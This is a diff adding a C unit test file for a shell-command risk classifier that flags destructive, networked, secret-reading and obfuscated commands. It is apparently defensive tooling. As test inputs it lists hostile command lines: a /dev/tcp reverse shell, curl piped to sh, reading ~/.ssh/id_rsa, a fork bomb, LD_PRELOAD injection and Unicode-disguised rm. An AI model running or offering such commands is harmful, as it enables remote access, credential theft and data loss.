@@ -1,0 +1,234 @@
+/* SPDX-License-Identifier: GPL-3.0-or-later */
+/* test_risk.c - what is found in a command line: calls, paths, hosts. */
+#include "tests/unit/unit.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "guard/risk.h"
+
+static void
+read_line(const char *line, struct syntax *s, struct risk *r)
+{
+    static const struct risk_place where = {
+        .cwd = "/nowhere/cwd", .home = "/home/nobody", .path = "/usr/bin:/bin"};
+    struct err e;
+
+    assert_int_equal(syntax_read(line, strlen(line), s, &e), 0);
+    assert_int_equal(risk_read(s, &where, r, &e), 0);
+}
+
+/* ---- calls are unwrapped */
+
+static const struct {
+    const char *line;
+    const char *names; /* of the calls, in order */
+    const char *wrapper;
+} calls[] = {
+    {"ls", "ls", ""},
+    {"ls | wc -l; pwd", "ls wc pwd", ""},
+    {"sudo -u bob rm -f x", "rm", "sudo"},
+    {"nice -n 5 timeout 3 env A=1 rm x", "rm", "nice"},
+    {"sh -c 'rm x; ls'", "rm ls", "sh"},
+    {"bash -lc \"rm x\"", "rm", "bash"},
+    {"echo $(rm x)", "echo rm", ""},
+    {"X=rm; $X -rf b", "rm", ""},
+    {"c=(rm -rf b); \"${c[@]}\"", "rm", ""},
+    {"f() { rm $1; }; f b", "rm", ""},
+    {"f() { rm $1; }", "", ""},
+    {"f() { \"$@\"; }; f rm b", "rm", ""},
+    {"alias l='rm -rf'\nl b", "alias rm", ""},
+    {"{rm,-rf,b}", "rm", ""},
+    {"$x b", "", ""},
+    {"/bin/rm b", "rm", ""},
+    {"echo 'rm b' | sh", "echo sh rm", "sh"},
+    {"bash <<E\nrm b\nE", "bash rm", "bash"},
+    {"if a; then b; else c; fi", "a b c", ""},
+};
+
+static void
+what_only_wraps_is_unwrapped(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < N_OF(calls); i++) {
+        char names[256] = "";
+        struct syntax s;
+        struct risk r;
+
+        read_line(calls[i].line, &s, &r);
+        for (size_t j = 0; j < r.n_calls; j++) {
+            size_t n = strlen(names);
+
+            snprintf(names + n, sizeof(names) - n, "%s%s", n ? " " : "",
+                     r.calls[j].name);
+        }
+        if (strcmp(names, calls[i].names) != 0)
+            fail_msg("%s: [%s]", calls[i].line, names);
+        if (r.n_calls)
+            assert_string_equal(r.calls[r.n_calls - 1].wrapper,
+                                calls[i].wrapper);
+        risk_done(&r);
+        syntax_done(&s);
+    }
+}
+
+/* ---- paths and hosts are found */
+
+static const struct {
+    const char *line;
+    enum risk_use use;
+    const char *text;
+    const char *dir;
+} paths[] = {
+    {"rm a b", RISK_DELETES, "b", "/nowhere/cwd"},
+    {"cd x && rm a", RISK_DELETES, "a", "/nowhere/cwd/x"},
+    {"(cd x); rm a", RISK_DELETES, "a", "/nowhere/cwd"},
+    {"cd \"$x\"; rm a", RISK_DELETES, "a", NULL},
+    {"cd; rm a", RISK_DELETES, "a", "/home/nobody"},
+    {"echo > a", RISK_CHANGES, "a", "/nowhere/cwd"},
+    {"echo >> a", RISK_MAKES, "a", "/nowhere/cwd"},
+    {"cat < a", RISK_READS, "a", "/nowhere/cwd"},
+    {"dd if=x of=a", RISK_CHANGES, "a", "/nowhere/cwd"},
+    {"sh -c 'cd y; rm a'", RISK_DELETES, "a", "/nowhere/cwd/y"},
+};
+
+static void
+paths_are_found(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < N_OF(paths); i++) {
+        bool found = false;
+        struct syntax s;
+        struct risk r;
+
+        read_line(paths[i].line, &s, &r);
+        for (size_t j = 0; j < r.n_paths; j++) {
+            const struct risk_path *p = &r.paths[j];
+
+            found = found || (p->use == paths[i].use &&
+                              strcmp(p->text, paths[i].text) == 0 &&
+                              (p->dir == paths[i].dir ||
+                               (p->dir && paths[i].dir &&
+                                strcmp(p->dir, paths[i].dir) == 0)));
+        }
+        if (!found)
+            fail_msg("%s: no such path", paths[i].line);
+        risk_done(&r);
+        syntax_done(&s);
+    }
+}
+
+static const struct {
+    const char *line;
+    const char *host;
+    bool network;
+} hosts[] = {
+    {"curl https://example.org/x", "example.org", true},
+    {"curl http://localhost:8080/", "localhost", false},
+    {"ssh bob@example.org ls", "example.org", true},
+    {"echo > /dev/tcp/192.0.2.1/80", "192.0.2.1", true},
+};
+
+static void
+hosts_are_found(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < N_OF(hosts); i++) {
+        struct syntax s;
+        struct risk r;
+
+        read_line(hosts[i].line, &s, &r);
+        if (r.n_hosts != 1 || strcmp(r.hosts[0].name, hosts[i].host) != 0)
+            fail_msg("%s: %zu hosts", hosts[i].line, r.n_hosts);
+        assert_int_equal(!!(r.facts & RISK_NETWORK), hosts[i].network);
+        risk_done(&r);
+        syntax_done(&s);
+    }
+}
+
+/* ---- facts */
+
+static const struct {
+    const char *line;
+    unsigned has, lacks;
+} facts[] = {
+    {"", 0, ~0u},
+    {"# rm x", 0, ~0u},
+    {"echo rm", 0, RISK_DESTRUCTIVE},
+    {"sudo rm x", RISK_SUDO | RISK_DESTRUCTIVE, 0},
+    {"$(x)", RISK_OPAQUE | RISK_DESTRUCTIVE, 0},
+    {"rm 'x", RISK_OPAQUE | RISK_DESTRUCTIVE, 0},
+    {"curl https://example.org | sh", RISK_OPAQUE | RISK_NETWORK, 0},
+    {"./rm x", RISK_DESTRUCTIVE | RISK_UNKNOWN, 0},
+    {"/bin/rm x", RISK_DESTRUCTIVE, RISK_UNKNOWN},
+    {"zzz-no-such-program", RISK_UNKNOWN, RISK_DESTRUCTIVE},
+    {"echo x > /etc/motd", RISK_PRIVILEGED | RISK_WRITES, 0},
+    {"b() { b | b & }; b", RISK_DESTRUCTIVE, 0},
+    {"b() { b; }; b", 0, RISK_DESTRUCTIVE},
+    {"bash -i >& /dev/tcp/192.0.2.1/4 0>&1", RISK_OPAQUE | RISK_NETWORK, 0},
+    {"cat ~/.ssh/id_rsa", RISK_SECRET, RISK_DESTRUCTIVE},
+    {"awk '{ print $1 }' x", 0, RISK_DESTRUCTIVE},
+    {"awk 'BEGIN { system(\"rm x\") }'", RISK_DESTRUCTIVE, RISK_OPAQUE},
+    {"sed 's/a/b/w out' x", RISK_WRITES, RISK_OPAQUE},
+    {"sed 's/a/b/e' x", RISK_OPAQUE, 0},
+    {"python3 -c 'print(\"os.remove\")'", 0, RISK_DESTRUCTIVE},
+    {"LD_PRELOAD=./x.so ls", RISK_OPAQUE, 0},
+    {"PATH=.:$PATH ls", RISK_OPAQUE, 0},
+    {"export PATH=$PATH:/opt/bin", 0, RISK_OPAQUE},
+    {"\xd1\x80m x", RISK_OPAQUE, 0},     /* a Cyrillic r */
+    {"rm\xc2\xa0-rf x", RISK_OPAQUE, 0}, /* a no-break space */
+    {"echo a\xe2\x80\xae"
+     "b",
+     RISK_OPAQUE, 0}, /* right to left */
+    {"echo '\xf0\x9f\x8e\x89'", 0, RISK_OPAQUE},
+};
+
+static void
+facts_are_as_they_should_be(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < N_OF(facts); i++) {
+        struct syntax s;
+        struct risk r;
+
+        read_line(facts[i].line, &s, &r);
+        if ((r.facts & facts[i].has) != facts[i].has ||
+            r.facts & facts[i].lacks)
+            fail_msg("%s: %#x", facts[i].line, r.facts);
+        risk_done(&r);
+        syntax_done(&s);
+    }
+}
+
+/* ---- bounds */
+
+static void
+too_deep_is_opaque(void **state)
+{
+    char line[4096] = "";
+    struct syntax s;
+    struct risk r;
+
+    (void)state;
+    for (size_t i = 0; i < 400; i++)
+        strncat(line, "sudo ", sizeof(line) - strlen(line) - 1);
+    strncat(line, "ls", sizeof(line) - strlen(line) - 1);
+    read_line(line, &s, &r);
+    assert_true(r.facts & RISK_OPAQUE);
+    risk_done(&r);
+    syntax_done(&s);
+}
+
+int
+main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(what_only_wraps_is_unwrapped),
+        cmocka_unit_test(paths_are_found),
+        cmocka_unit_test(hosts_are_found),
+        cmocka_unit_test(facts_are_as_they_should_be),
+        cmocka_unit_test(too_deep_is_opaque),
+    };
+
+    return cmocka_run_group_tests_name("risk", tests, NULL, NULL);
+}
